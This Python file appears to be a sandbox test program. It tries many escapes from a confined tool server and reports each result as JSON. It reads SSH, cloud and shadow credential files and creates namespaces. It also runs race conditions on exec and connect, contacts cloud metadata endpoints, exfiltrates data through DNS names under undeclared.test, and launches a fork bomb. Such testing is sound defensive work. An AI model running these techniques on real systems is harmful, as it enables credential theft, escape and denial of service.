# A hostile program for TestHostile. It tries to read, write, start and reach things that a confined tool server must
# not have. It prints one line of JSON for each attempt: {"name", "through", "detail", "given"}. An attempt gets through
# if its function returns normally; an exception stops it. "given" names the profile that allows the attempt, if any.
# With "control", the program runs without a sandbox and makes only the attempts that must succeed there and that do not
# harm the machine.
import ctypes, fcntl, glob, json, mmap, os, resource, shutil, signal, socket, stat, struct, subprocess, sys, tempfile, threading, time

# machine: a folder that stands for the machine's files. port, udp: servers at the machine's loopback. abstract: the
# name of an abstract socket. pid: a process outside. allowed: a host that the profile network may reach. declared: a
# folder that the profile write may change.
world = json.loads(sys.argv[1])
machine, port, allowed, declared = world["machine"], world["port"], world["allowed"], world["declared"]
secret = machine + "/secret"
patience = 5 if world["control"] else 0.5  # how long an attempt waits that must fail in a sandbox
libc = ctypes.CDLL(None, use_errno=True)
attempts = []  # name, function, profile that allows it, whether it must succeed without a sandbox


def add(name, f, given="", control=False):
    attempts.append((name, f, given, control))


def attempt(f):
    add(f.__name__.replace("_", " "), f)
    return f


def proven(f):
    add(f.__name__.replace("_", " "), f, control=True)
    return f


def program(f):
    add(f.__name__.replace("_", " "), f, given="shell", control=True)
    return f


def syscall(number, *args):
    r = libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
    if r == -1:
        e = ctypes.get_errno()
        raise OSError(e, os.strerror(e))
    return r


def read(path):
    with open(path, "rb") as f:
        if not f.read(64):
            raise OSError("empty")


for path in ["secret", "home/.ssh/id_ed25519", "home/.ssh/config", "home/.aws/credentials", "home/.config/gcloud/credentials.db",
             "home/.azure/accessTokens.json", "home/.kube/config", "home/.docker/config.json", "home/.netrc", "home/.npmrc",
             "home/.pgpass", "home/.bash_history", "home/.gnupg/secring.gpg", "parent/ambit/keys/root", "parent/ambit/vault.age",
             "parent/ambit/store.db", "parent/ambit/servers/other/alias/token", "tmp/ambit.bundle/main.py",
             "tmp/ambit.memory/memory.jsonl", "serve.log"]:
    add("read " + path, lambda path=machine + "/" + path: read(path), control=True)

for path in ["/etc/shadow", "/root/.ssh/id_rsa", "/root/.bash_history", "/root/.pgpass", "/etc/sudoers", "/etc/ssh/ssh_host_ed25519_key",
             "/var/lib/dpkg/status", "/var/log/dpkg.log", "/proc/1/environ", "/proc/1/mem", "/proc/1/root/etc/shadow", "/proc/kcore",
             "/proc/sysrq-trigger", "/sys/kernel/vmcoreinfo", "/sys/fs/cgroup/cgroup.procs", "/dev/mem", "/dev/sda", "/dev/vda",
             "/dev/tty", "/dev/console", "/dev/kmsg", "/dev/pts/0", "/dev/ptmx", "/run/docker.sock", "/var/run/docker.sock",
             "/run/dbus/system_bus_socket", "/canary"]:
    add("read " + path, lambda path=path: read(path))


@proven
def environment_of_the_gateway():
    read("/proc/%d/environ" % world["pid"])


@proven
def files_of_the_gateway():
    os.listdir("/proc/%d/fd" % world["pid"])


@attempt
def list_other_homes():
    if not (os.listdir("/home") or os.listdir("/root")):
        raise OSError("empty")


@attempt
def environment_of_other_processes():
    for p in glob.glob("/proc/[0-9]*/environ"):
        if p.split("/")[2] not in (str(os.getpid()), "1"):
            read(p)
            return
    raise OSError("no other process")


@attempt
def see_processes_of_the_machine():
    if len(glob.glob("/proc/[0-9]*")) < 6:
        raise OSError("only its own")


def write(path):
    with open(path, "wb") as o:
        o.write(b"x")


for path in ["/x", "/usr/x", "/usr/bin/x", "/usr/lib/x", "/etc/x", "/etc/passwd", "/etc/resolv.conf", "/etc/hosts", "/root/x", "/home/x", "/var/x", "/opt/x",
             "/srv/x", "/dev/x", "/proc/sys/kernel/hostname", "/proc/sys/kernel/core_pattern", "/lib/x", "/bin/x", "/sys/x", "/boot/x", "/mnt/x",
             "/sys/fs/cgroup/cgroup.kill", "/sys/fs/cgroup/memory/cgroup.procs", "/hostile.py"]:
    add("write " + path, lambda path=path: write(path))
for path in ["secret", "new", "tmp/ambit.bundle/main.py", "parent/ambit/keys/root", "home/.ssh/authorized_keys", "home/.bashrc"]:
    add("write " + path, lambda path=machine + "/" + path: write(path), control=True)
add("write to a declared folder", lambda: write(declared + "/new"), given="write", control=True)
add("read a declared file", lambda: read(declared + "/file"), given="write", control=True)
add("write to the read-only file of a declared folder", lambda: write(declared + "/manifest.json"))
add("replace the read-only file of a declared folder", lambda: os.rename(declared + "/file", declared + "/manifest.json"))
add("read a hidden folder of a declared folder", lambda: read(declared + "/hidden/key"))
add("rename a parent of a hidden folder", lambda: os.rename(declared + "/hidden", declared + "/shown"))


@attempt
def rename_a_system_folder():
    os.rename("/usr", "/usr2")


@proven
def rename_the_parent_of_the_home_of_ambit():
    os.rename(machine + "/parent", machine + "/decoy")
    os.rename(machine + "/decoy", machine + "/parent")


@attempt
def rename_its_home():
    os.rename("/scratch/home", "/scratch/home2")


@proven
def link_to_the_secret():
    os.link(secret, machine + "/link" if world["control"] else "/tmp/link")


@proven
def symlink_to_the_secret():
    path = os.path.join(os.environ.get("TMPDIR", "/tmp"), "symlink-%d" % os.getpid())
    os.symlink(secret, path)
    try:
        read(path)
    finally:
        os.unlink(path)


@attempt
def open_the_root_by_descriptor():
    for fd in range(3, 256):
        try:
            if os.path.isdir("/proc/self/fd/%d" % fd):
                read("/proc/self/fd/%d%s" % (fd, secret))
                return
        except OSError:
            pass
    raise OSError("no folder is open")


@attempt
def chroot():
    os.chroot("/tmp")


@attempt
def mount_a_file_system():
    if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) != 0:
        raise OSError(ctypes.get_errno(), "mount")


@attempt
def unmount_the_private_home():
    if libc.umount2(b"/scratch/home", 2) != 0:
        raise OSError(ctypes.get_errno(), "umount")


@attempt
def open_tree():
    syscall(428, -100, ctypes.c_char_p(b"/"), 1)


@attempt
def fsopen():
    syscall(430, ctypes.c_char_p(b"tmpfs"), 0)


for flag, name in [(0x10000000, "user"), (0x00020000, "mount"), (0x40000000, "net"), (0x20000000, "pid"), (0x08000000, "ipc"), (0x04000000, "uts"), (0x02000000, "cgroup")]:
    def f(flag=flag):
        if libc.unshare(flag) != 0:
            raise OSError(ctypes.get_errno(), "unshare")
    add("new %s namespace" % name, f)


@attempt
def clone3_with_a_namespace():
    args = struct.pack("<11Q", 0x10000000, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0)
    pid = syscall(435, ctypes.c_char_p(args), len(args))
    if pid == 0:
        os._exit(0)


@attempt
def join_a_namespace():
    fd = os.open("/proc/1/ns/net", os.O_RDONLY)
    if libc.setns(fd, 0) != 0:
        raise OSError(ctypes.get_errno(), "setns")


def runs(name, argv, control=True):
    add(name, lambda: subprocess.run(argv, check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL), given="shell", control=control)


loader = "/lib64/ld-linux-x86-64.so.2"
runs("start a shell", ["/bin/sh", "-c", "true"])
runs("start true", ["/usr/bin/true"])
runs("start itself", ["/proc/self/exe", "-c", "0"])
runs("start python again", [sys.executable, "-c", "0"])
runs("start by the loader", [loader, "/bin/sh", "-c", "true"])
runs("start the loader with itself", [loader, os.path.realpath(sys.executable), "-c", "0"])
runs("start mount", ["mount"])
add("start sudo", lambda: subprocess.run(["sudo", "-n", "true"], check=True, stderr=subprocess.DEVNULL))
add("start su", lambda: subprocess.run(["su", "-c", "true"], check=True, stdin=subprocess.DEVNULL, stderr=subprocess.DEVNULL))


@program
def find_another_program():
    for p in ["/usr/bin/sh", "/bin/sh", "/bin/true", "/usr/sbin/fdisk", "/usr/bin/env", "/usr/local/bin/node", "/usr/bin/git"]:
        if os.path.exists(p):
            return
    raise OSError("none")


@program
def load_written_code():
    copy = os.path.join(os.environ.get("TMPDIR", "/tmp"), "code-%d.so" % os.getpid())
    shutil.copy(glob.glob("/usr/lib/*/libz.so.1")[0], copy)
    try:
        ctypes.CDLL(copy)
    finally:
        os.unlink(copy)


@attempt
def setuid_program_of_its_own():
    with open("/tmp/suid", "wb") as o:
        o.write(b"#!/bin/sh\nid -u\n")
    os.chmod("/tmp/suid", 0o4755)
    if subprocess.run(["/tmp/suid"], stdout=subprocess.PIPE, text=True).stdout.strip() != "0":
        raise OSError("not root")


@attempt
def setuid_program_of_the_machine():
    for p in glob.glob("/usr/bin/*") + glob.glob("/usr/sbin/*"):
        if os.stat(p).st_mode & stat.S_ISUID and os.stat(p).st_uid == 0:
            return
    raise OSError("none")


@program
def start_by_os_system():
    if os.system("true") != 0:
        raise OSError("refused")


def inChild(f):
    pid = os.fork()
    if pid == 0:
        try:
            f()
        except BaseException:
            os._exit(1)
        os._exit(1)
    if os.waitpid(pid, 0)[1] != 0:
        raise OSError("refused")


@program
def execve_in_a_child():
    inChild(lambda: os.execv("/usr/bin/true", ["true"]))


@program
def execve_of_a_written_file():
    copy = os.path.join(os.environ.get("TMPDIR", "/tmp"), "prog-%d" % os.getpid())
    shutil.copy("/proc/self/exe", copy)
    os.chmod(copy, 0o755)
    try:
        inChild(lambda: os.execv(copy, [sys.executable, "-c", "0"]))
    finally:
        os.unlink(copy)


@program
def execve_of_a_memory_file():
    fd = os.memfd_create("x")
    with open("/proc/self/exe", "rb") as i:
        os.write(fd, i.read())
    inChild(lambda: os.execv("/proc/self/fd/%d" % fd, [sys.executable, "-c", "0"]))


@program
def execveat_of_a_descriptor():
    fd = os.open("/proc/self/exe", os.O_RDONLY)
    argv = (ctypes.c_char_p * 4)(sys.executable.encode(), b"-c", b"0", None)
    inChild(lambda: syscall(322, fd, ctypes.c_char_p(b""), argv, None, 0x1000))


@program
def swap_the_path_while_it_is_judged():
    # The child judges a path in memory that its parent goes on to change.
    shared = mmap.mmap(-1, 4096)
    path, stop = (ctypes.c_char * 4096).from_buffer(shared), []

    def swap():
        while not stop:
            path.value = sys.executable.encode()
            path.value = b"/nonexistent"
    t = threading.Thread(target=swap)
    t.start()
    try:
        for _ in range(50):
            pid = os.fork()
            if pid == 0:
                for _ in range(100):
                    libc.execve(path, (ctypes.c_char_p * 4)(sys.executable.encode(), b"-c", b"0", None), None)
                os._exit(1)
            if os.waitpid(pid, 0)[1] == 0:
                return
    finally:
        stop.append(1)
        t.join()
    raise OSError("never")


def greeted(s):
    if not s.recv(10).startswith(b"canary"):
        raise OSError("no greeting")


def connect(host, port, family=socket.AF_INET, protocol=0, wait=5):
    with socket.socket(family, socket.SOCK_STREAM, protocol) as s:
        s.settimeout(wait)
        s.connect((host, port))
        greeted(s)


def connects(name, host, port, family=socket.AF_INET, **more):
    add(name, lambda: connect(host, port, family), **more)


connects("connect to loopback", "127.0.0.1", port, control=True)
connects("connect to mapped loopback", "::ffff:127.0.0.1", port, socket.AF_INET6, control=True)
connects("connect to 0.0.0.0", "0.0.0.0", port, control=True)
add("connect by MPTCP", lambda: connect("127.0.0.1", port, protocol=262), control=True)
connects("connect to an allowed host", allowed, 80, given="network")
connects("connect to another port of an allowed host", allowed, port)
connects("connect to a rebinding name", "rebind.test", port)
for name, host, at in [
    ("connect to metadata", "169.254.169.254", 80), ("connect to Azure's metadata", "168.63.129.16", 80), ("connect to Alibaba's metadata", "100.100.100.200", 80),
    ("connect to a private address", "10.0.0.1", 80), ("connect to another private address", "192.168.1.1", 80),
    ("connect to a third private address", "172.16.0.1", 80), ("connect to the gateway", "172.17.0.1", 80), ("connect to a public address", "8.8.8.8", 53),
    ("connect to an undeclared name", "undeclared.test", port), ("connect to metadata by name", "metadata.google.internal", 80),
    ("connect to a made-up address", "11.0.200.200", 80), ("connect to the host's name", "host.docker.internal", 80),
    ("connect to a subdomain of an allowed host", "data." + allowed, 80)]:
    connects(name, host, at)
connects("connect to mapped metadata", "::ffff:169.254.169.254", 80, socket.AF_INET6)
connects("connect to IPv6 metadata", "fd00:ec2::254", 80, socket.AF_INET6)


@attempt
def send_data_by_names():
    # The test also looks for these names at the resolver outside.
    for i in range(20):
        connect("c2VjcmV0%d.undeclared.test" % i, 80)


@attempt
def ask_for_text_records():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(patience)
        s.sendto(b"\0\1\1\0\0\1\0\0\0\0\0\0\x07c2VjcmV\x0aundeclared\4test\0\0\x10\0\1", ("127.0.0.1", 53))
        if s.recv(512)[7] == 0:
            raise OSError("no answer")


@proven
def udp_to_loopback():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(patience)
        s.sendto(b"x", ("127.0.0.1", world["udp"]))
        greeted(s)


@proven
def reach_an_abstract_socket():
    with socket.socket(socket.AF_UNIX) as s:
        s.connect("\0" + world["abstract"])
        greeted(s)


@proven
def reach_a_socket_file():
    with socket.socket(socket.AF_UNIX) as s:
        s.connect(machine + "/socket")
        greeted(s)


# A declared folder contains the socket of a program outside.
def reach_by(path):
    with socket.socket(socket.AF_UNIX) as s:
        s.connect(path)
        greeted(s)


def linked(make):
    path = tempfile.mkdtemp() + "/link"
    make(declared + "/socket", path)
    reach_by(path)


def from_its_folder():
    before = os.getcwd()
    os.chdir(declared)
    try:
        reach_by("socket")
    finally:
        os.chdir(before)


def through_a_descriptor():
    fd = os.open(declared, os.O_PATH)
    reach_by("/proc/self/fd/%d/socket" % fd)


add("reach a declared socket", lambda: reach_by(declared + "/socket"), control=True)
add("reach a declared socket by a link", lambda: linked(os.symlink), control=True)
add("reach a declared socket by a hard link", lambda: linked(os.link))
add("reach a declared socket from its folder", from_its_folder, control=True)
add("reach a declared socket through a descriptor", through_a_descriptor, control=True)
add("reach a declared socket through /proc", lambda: reach_by("/proc/self/root" + declared + "/socket"), control=True)
add("reach a declared socket by its parent", lambda: reach_by("/tmp/../" + declared + "/socket"), control=True)


@attempt
def move_a_declared_socket():
    path = tempfile.mkdtemp() + "/moved"
    os.rename(declared + "/socket", path)
    os.rename(path, declared + "/socket")


# The machine does not ignore the bits that the sandbox ignores.
def set_id(make):
    path = declared + "/set-id-%d" % time.monotonic_ns()
    try:
        make(path)
        if os.stat(path).st_mode & 0o6000 == 0:
            raise OSError("no such bit")
    finally:
        if os.path.exists(path):
            os.rmdir(path) if os.path.isdir(path) else os.unlink(path)


def made(path):
    with open(path, "w"):
        return path


for name, make in {
    "chmod": lambda p: os.chmod(made(p), 0o4755), "fchmod": lambda p: os.fchmod(os.open(made(p), os.O_RDONLY), 0o2755),
    "fchmodat": lambda p: os.chmod(os.path.basename(made(p)), 0o6755, dir_fd=os.open(declared, os.O_RDONLY)),
    "fchmodat2": lambda p: syscall(452, -100, ctypes.c_char_p(made(p).encode()), 0o4755, 0),
    "open": lambda p: os.open(p, os.O_CREAT | os.O_WRONLY, 0o4755), "creat": lambda p: syscall(85, ctypes.c_char_p(p.encode()), 0o4755),
    "openat2": lambda p: syscall(437, -100, ctypes.c_char_p(p.encode()), ctypes.c_char_p(struct.pack("QQQ", os.O_CREAT | os.O_WRONLY, 0o4755, 0)), 24),
    "mkdir": lambda p: syscall(83, ctypes.c_char_p(p.encode()), 0o2755), "mknod": lambda p: os.mknod(p, 0o4755 | stat.S_IFREG),
}.items():
    add("set-id program by " + name, lambda make=make: set_id(make), control=name in ("chmod", "open"))


@attempt
def lease_on_a_file():
    fd = os.open(declared + "/file", os.O_RDONLY)
    fcntl.fcntl(fd, 1024, fcntl.F_WRLCK)
    fcntl.fcntl(fd, 1024, fcntl.F_UNLCK)


def swapping(swap, restore, reach):
    # A thread swaps what the other one has passed to connect.
    end = time.monotonic() + 1
    stop = threading.Event()

    def work():
        while not stop.is_set():
            swap()
            restore()
    t = threading.Thread(target=work)
    t.start()
    try:
        while time.monotonic() < end:
            try:
                return reach()
            except OSError:
                pass
        raise OSError("never reached")
    finally:
        stop.set()
        t.join()


def unix_address(path):
    return struct.pack("=H108s", socket.AF_UNIX, path.encode())


@attempt
def swap_the_address_of_a_socket():
    own = tempfile.mkdtemp() + "/own"
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(own)
        listener.listen(1024)
        listener.setblocking(False)
        good, bad = unix_address(own), unix_address(declared + "/socket")
        memory = ctypes.create_string_buffer(good, len(good))

        def reach():
            with socket.socket(socket.AF_UNIX) as s:
                s.settimeout(1)
                if libc.connect(s.fileno(), memory, len(good)) != 0:
                    raise OSError(ctypes.get_errno(), "connect")
                try:
                    listener.accept()[0].close()
                except BlockingIOError:
                    pass
                greeted(s)
        swapping(lambda: ctypes.memmove(memory, bad, len(bad)), lambda: ctypes.memmove(memory, good, len(good)), reach)


@attempt
def swap_the_descriptor_of_a_socket():
    with socket.socket() as tcp, socket.socket(socket.AF_UNIX) as local:
        fd = os.dup(tcp.fileno())
        good = struct.pack("=HH4s8x", socket.AF_INET, socket.htons(9), bytes([127, 0, 0, 1])).ljust(110, b"\0")
        bad = unix_address(declared + "/socket")
        memory = ctypes.create_string_buffer(good, len(good))

        def swap():
            os.dup2(local.fileno(), fd)
            ctypes.memmove(memory, bad, len(bad))

        def restore():
            os.dup2(tcp.fileno(), fd)
            ctypes.memmove(memory, good, len(good))

        def reach():
            libc.connect(fd, memory, len(good))
            local.getpeername()
        swapping(swap, restore, reach)


@attempt
def disconnect_a_connecting_socket():
    # An injected socket of the host would be free after shutdown, and could connect to the host's loopback.
    with socket.socket() as s:
        s.setblocking(False)
        s.connect_ex((allowed, 80))
        for free in (lambda: s.shutdown(socket.SHUT_RDWR), lambda: libc.connect(s.fileno(), struct.pack("<H14x", 0), 16)):
            try:
                free()
            except OSError:
                pass
        s.settimeout(5)
        s.connect(("127.0.0.1", port))
        greeted(s)


@attempt
def listen_on_a_connecting_socket():
    with socket.socket() as s:
        s.setblocking(False)
        s.connect_ex((allowed, 80))
        s.shutdown(socket.SHUT_RDWR)
        s.listen()
        if s.getsockname()[0] in ("127.0.0.1", "0.0.0.0"):
            raise OSError("a socket of its own loopback")


@attempt
def swap_the_address_while_it_is_judged():
    good, bad = (struct.pack("<H", 2) + struct.pack(">H", p) + socket.inet_aton(a) + bytes(8)
                 for a, p in ((socket.gethostbyname(allowed), 80), ("127.0.0.1", port)))
    address, stop = ctypes.create_string_buffer(16), []

    def swap():
        while not stop:
            ctypes.memmove(address, good, 16)
            ctypes.memmove(address, bad, 16)
    t = threading.Thread(target=swap)
    t.start()
    try:
        for _ in range(100):
            with socket.socket() as s:
                if libc.connect(s.fileno(), address, 16) == 0 and s.getpeername()[0] == "127.0.0.1" and s.getpeername()[1] == port:
                    return
    finally:
        stop.append(1)
        t.join()
    raise OSError("never")


@attempt
def connect_to_the_relay():
    with open("/proc/self/net/tcp") as f:
        for line in f.readlines()[1:]:
            if line.split()[3] == "0A":
                connect("127.0.0.1", int(line.split()[1].split(":")[1], 16), wait=patience)
                return
    raise OSError("no listener")


@attempt
def another_name_in_tls():
    import ssl
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    with socket.create_connection((allowed, 443), 5) as s:
        context.wrap_socket(s, server_hostname="other.test").version()


@attempt
def dns_to_another_server():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(patience)
        s.sendto(b"\x00\x01\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x01a\x04test\x00\x00\x01\x00\x01", ("8.8.8.8", 53))
        s.recv(10)


@attempt
def udp_to_an_allowed_host():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(patience)
        s.sendto(b"x", (allowed, 443))
        s.recv(10)


@proven
def connect_by_fast_open():
    with socket.socket() as s:
        s.sendto(b"x", 0x20000000, ("127.0.0.1", port))
        greeted(s)


@attempt
def fast_open_to_a_public_address():
    with socket.socket() as s:
        s.settimeout(5)
        s.sendto(b"x", 0x20000000, ("8.8.8.8", 80))


def sockets(name, *args, given=""):
    add("socket " + name, lambda: socket.socket(*args), given)


sockets("raw", socket.AF_INET, socket.SOCK_RAW, 1)
sockets("packet", socket.AF_PACKET, socket.SOCK_RAW, 3)
sockets("netlink", socket.AF_NETLINK, socket.SOCK_RAW, 0)
sockets("unix", socket.AF_UNIX, socket.SOCK_STREAM, 0, given="shell")
sockets("unix for datagrams", socket.AF_UNIX, socket.SOCK_DGRAM, 0)
sockets("unix, raw", socket.AF_UNIX, socket.SOCK_RAW, 0)
sockets("vsock", 40, socket.SOCK_STREAM, 0)
sockets("bluetooth", 31, socket.SOCK_RAW, 0)
sockets("alg", 38, socket.SOCK_SEQPACKET, 0)


def abstract_socket():
    s = socket.socket(socket.AF_UNIX)
    s.bind("\0ambit-test")


add("abstract socket", abstract_socket, "shell")


for number, name, args in [(425, "io_uring", (1, ctypes.create_string_buffer(120))), (101, "ptrace", (0, 0, 0, 0)), (323, "userfaultfd", (0,)), (248, "add_key", (ctypes.c_char_p(b"user"), ctypes.c_char_p(b"x"), ctypes.c_char_p(b"y"), 1, -2)),
                           (250, "keyctl", (0, -3, 0)), (321, "bpf", (0, 0, 0)), (298, "perf_event_open", (0, 0, -1, -1, 0)), (310, "process_vm_readv", (1, 0, 0, 0, 0, 0)), (438, "pidfd_getfd", (0, 0, 0)),
                           (304, "open_by_handle_at", (0, 0, 0)), (175, "init_module", (0, 0, 0)), (246, "kexec_load", (0, 0, 0, 0)), (169, "reboot", (0, 0, 0)), (161, "chroot call", (ctypes.c_char_p(b"/"),)),
                           (165, "mount call", (0, 0, 0, 0, 0)), (155, "pivot_root", (0, 0)), (317, "seccomp without a filter", (3, 0, 0)), (103, "syslog", (2, 0, 0)), (206, "io_setup", (1, ctypes.create_string_buffer(8))), (164, "settimeofday", (0, 0))]:
    add("call " + name, lambda number=number, args=args: syscall(number, *args))


@attempt
def second_mount_of_the_machine():
    for line in open("/proc/self/mountinfo"):
        at = line.split()[4]
        for path in (at + secret, at + "/etc/shadow"):
            if os.path.exists(path):
                return
    raise OSError("none")


@attempt
def become_root():
    os.setuid(0)


@attempt
def gain_capabilities():
    with open("/proc/self/status") as f:
        for line in f:
            if line.startswith("CapEff") and int(line.split()[1], 16) != 0:
                return
    raise OSError("none")


@attempt
def raise_its_limits():
    resource.setrlimit(resource.RLIMIT_NOFILE, (1 << 20, 1 << 20))


@attempt
def signal_outside():
    os.kill(-1, 0)
    for p in range(2, 40000):
        if p != os.getpid() and os.path.exists("/proc/%d" % p):
            os.kill(p, 0)
            return
    raise OSError("nothing to signal")


@attempt
def type_into_the_terminal():
    import fcntl
    fcntl.ioctl(0, 0x5412, b"x")


@attempt
def fork_bomb():
    pids = []
    try:
        while len(pids) < 5000:
            pid = os.fork()
            if pid == 0:
                time.sleep(60)
                os._exit(0)
            pids.append(pid)
    finally:
        for p in pids:
            os.kill(p, signal.SIGKILL)
            os.waitpid(p, 0)


for name, f, given, control in attempts:
    if world["control"] and not control:
        continue
    try:
        detail = f()
        through = True
    except BaseException as e:
        detail, through = str(e), False
    print(json.dumps({"name": name, "through": through, "detail": str(detail)[:100], "given": given}), flush=True)
